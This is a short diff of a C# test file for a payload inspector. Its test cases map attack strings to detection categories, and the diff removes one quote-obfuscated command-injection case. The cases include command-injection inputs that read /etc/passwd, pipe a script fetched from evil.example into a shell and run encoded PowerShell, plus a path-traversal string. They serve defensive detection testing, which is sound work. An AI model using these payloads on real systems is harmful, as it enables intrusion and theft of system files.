@@ -299,7 +299,6 @@ public sealed class PayloadInspectorTests
         { "; cat /etc/passwd", InspectionCategory.Cmdi },
         { "$(curl http://evil.example/x.sh|sh)", InspectionCategory.Cmdi },
         { "`whoami`", InspectionCategory.Cmdi },
-        { "a;w'h'o'a'm'i", InspectionCategory.Cmdi },
         { "x|cat${IFS}/etc/passwd", InspectionCategory.Cmdi },
         { "& powershell -enc SQBFAFgA", InspectionCategory.Cmdi },
         { "../../../../etc/passwd", InspectionCategory.Lfi },
